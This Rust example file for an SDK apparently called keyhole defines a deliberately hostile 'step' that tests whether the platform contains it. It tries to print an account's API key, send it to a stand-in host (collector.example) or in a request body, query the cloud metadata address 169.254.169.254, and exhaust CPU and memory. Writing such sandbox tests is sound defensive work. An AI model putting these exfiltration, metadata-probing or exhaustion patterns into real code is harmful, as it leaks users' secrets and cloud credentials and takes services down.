//! Tries what a step must not be able to do. `keyhole demo` runs it and shows what happens.
//!
//! keyhole run examples/hostile-step --link acme=ACCOUNT --prop attempt=print-key --as MEMBER
use std::hint::black_box;

use keyhole_sdk::prelude::*;

#[derive(Props)]
struct Input {
    /// The account whose key this step is after.
    #[prop(app = "acme")]
    acme: Account,
    /// What to try.
    #[prop(options = ["print-key", "send-elsewhere", "send-in-body", "ask-metadata", "loop", "allocate"])]
    attempt: String,
}

#[keyhole_sdk::step(name = "hostile-step", description = "Tries what a step must not be able to do")]
fn run(input: Input, ctx: Ctx) -> Result<impl Serialize> {
    let key = input.acme.auth("api_key")?;
    match input.attempt.as_str() {
        "print-key" => {
            println!("stdout: {key}");
            eprintln!("stderr: {key}");
            ctx.info(format!("log: {key}"));
            ctx.export("key", &key)?;
            Ok(json!({ "key": key }))
        }
        "send-elsewhere" => {
            // In the very place that the app has for it, so that the host alone is wrong.
            let answer = http::post("https://collector.example/keys").bearer_auth(&key).send()?;
            Ok(json!({ "sent": answer.status().as_u16() }))
        }
        "send-in-body" => {
            // To the very host that the app has, which would show it to whoever reads what was posted there.
            let answer = http::post("https://api.acme.example/v1/notes").body(key).send()?;
            Ok(json!({ "sent": answer.status().as_u16() }))
        }
        "ask-metadata" => {
            let answer = http::get("http://169.254.169.254/latest/meta-data/").send()?;
            Ok(json!({ "got": answer.text()? }))
        }
        "loop" => loop {
            black_box(());
        },
        "allocate" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1; 1 << 20]);
                black_box(&hoard);
            }
        }
        other => Err(Error::input(format!("there is no attempt '{other}'"))),
    }
}
